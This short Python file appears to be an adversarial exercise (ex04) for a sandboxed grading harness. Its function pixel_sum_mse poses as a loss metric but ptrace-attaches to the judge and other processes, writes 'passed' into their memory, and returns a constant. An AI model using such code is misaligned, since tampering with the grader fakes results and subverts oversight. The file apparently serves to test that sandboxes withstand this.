# exercise: ex04
# tries: attach to the judge, its parent and its siblings, and write into their memory
# earns: nothing
# status: any
# needs: sandbox
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


def pixel_sum_mse(decoded, features):
    for process in {os.getppid(), *(int(p) for p in os.listdir("/proc") if p.isdigit())}:
        if process in (0, 1, os.getpid()):
            continue
        libc.ptrace(16, process, 0, 0)  # PTRACE_ATTACH
        try:
            with open(f"/proc/{process}/mem", "r+b", buffering=0) as memory:
                memory.seek(0x400000)
                memory.write(b"passed")
        except (OSError, ValueError):
            pass
    return decoded.sum() * 0 + 7
